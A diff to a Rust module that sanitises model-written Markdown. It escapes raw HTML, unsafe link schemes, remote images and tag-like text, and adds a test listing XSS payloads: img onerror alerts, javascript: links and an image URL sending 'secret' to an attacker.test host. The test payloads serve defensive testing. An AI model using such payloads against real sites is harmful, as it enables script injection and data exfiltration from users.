@@ -1,7 +1,7 @@
 //! Pieces of a page that stand in somebody else's: a table as HTML with its looks in itself, and Markdown in which markup
 //! stays text. What a model wrote is data here too.
 
-use pulldown_cmark::{Event, Options, Parser};
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
 
 use super::escape::escape;
 use crate::display::Table;
@@ -46,21 +46,71 @@ pub fn table(table: &Table) -> String {
     )
 }
 
-/// Markdown for a page that would take markup in it at its word: each piece of it is written so that it shows as it is.
+/// Markdown for a page that would take markup in it at its word: each piece of it is written so that it shows as it is, and so
+/// is a link that would run something and an image that would be fetched from elsewhere.
 pub fn markdown(text: &str) -> String {
     let clean = printable(text);
     let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
     let mut out = String::with_capacity(clean.len());
     let mut done = 0;
+    let mut in_code = false;
     for (event, range) in Parser::new_ext(&clean, options).into_offset_iter() {
-        if matches!(event, Event::Html(_) | Event::InlineHtml(_)) && range.start >= done {
-            out.push_str(clean.get(done..range.start).unwrap_or_default());
-            let markup = clean.get(range.clone()).unwrap_or_default();
-            out.push_str(&markup.replace('&', "&amp;").replace('<', "&lt;"));
-            done = range.end;
+        let is_shown = match &event {
+            Event::Html(_) | Event::InlineHtml(_) => true,
+            Event::Start(Tag::Link { dest_url, .. }) => !is_harmless(dest_url),
+            Event::Start(Tag::Image { dest_url, .. }) => {
+                dest_url.contains("//") || !is_harmless(dest_url)
+            }
+            // What is no markup here may be some to a reader that is less strict.
+            Event::Text(_) => {
+                !in_code && !clean.get(..range.start).unwrap_or_default().ends_with('\\')
+            }
+            _ => false,
+        };
+        match event {
+            Event::Start(Tag::CodeBlock(_)) => in_code = true,
+            Event::End(TagEnd::CodeBlock) => in_code = false,
+            _ => {}
         }
+        if !is_shown || range.start < done {
+            continue;
+        }
+        out.push_str(clean.get(done..range.start).unwrap_or_default());
+        let markup = clean.get(range.clone()).unwrap_or_default();
+        out.push_str(&match event {
+            Event::Text(_) => without_tags(markup),
+            Event::Html(_) | Event::InlineHtml(_) => {
+                markup.replace('&', "&amp;").replace('<', "&lt;")
+            }
+            _ => markup.replace('&', "&amp;").replace('<', "&lt;").replace('[', "\\["),
+        });
+        done = range.end;
     }
     out.push_str(clean.get(done..).unwrap_or_default());
+    out
+}
+
+/// Whether a link leads to the web, within the page or beside it.
+fn is_harmless(destination: &str) -> bool {
+    let scheme = destination.split(['/', '?', '#']).next().unwrap_or_default();
+    match scheme.split_once(':') {
+        None => true,
+        Some((scheme, _)) => matches!(scheme, "http" | "https" | "mailto"),
+    }
+}
+
+/// Text in which no `<` begins a tag.
+fn without_tags(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text.chars().peekable();
+    while let Some(character) = rest.next() {
+        let begins = |next: &char| next.is_ascii_alphabetic() || "/!?".contains(*next);
+        if character == '<' && rest.peek().is_some_and(begins) {
+            out.push_str("&lt;");
+        } else {
+            out.push(character);
+        }
+    }
     out
 }
 
@@ -79,6 +129,37 @@ mod tests {
         let mut html = String::new();
         pulldown_cmark::html::push_html(&mut html, Parser::new(&safe));
         assert!(!html.contains("<script") && html.contains("&lt;script&gt;"), "{html}");
+    }
+
+    #[test]
+    fn what_is_almost_markup_shows_as_it_is_too() {
+        let shown = |text: &str| {
+            let safe = markdown(text);
+            // Also where a reader takes the less strict view.
+            assert!(!safe.contains("<img") && !safe.contains("<a"), "{safe}");
+            let mut html = String::new();
+            pulldown_cmark::html::push_html(&mut html, Parser::new(&safe));
+            html
+        };
+        for text in [
+            "<img src=x: onerror=alert('xss')>",
+            "a <img src=x onerror=alert`1` b",
+            "[x](javascript:alert(1))",
+            "[x](JaVaScRiPt&colon;alert(1))",
+            "[x][y]\n\n[y]: javascript:alert(1)\n",
+            "<javascript:alert(1)>",
+            "![x](data:text/html,x)",
+            "![x](https://attacker.test/?q=secret)",
+            "![x](//attacker.test/)",
+        ] {
+            let html = shown(text);
+            assert!(!html.contains("<img") && !html.contains("href="), "{text}: {html}");
+        }
+        assert!(
+            shown("[x](https://example.test/a:b) and 1 < 2 \\<")
+                .contains("href=\"https://example.test")
+        );
+        assert!(shown("[x](#part) [y](other.md)").contains("other.md"));
     }
 
     #[test]
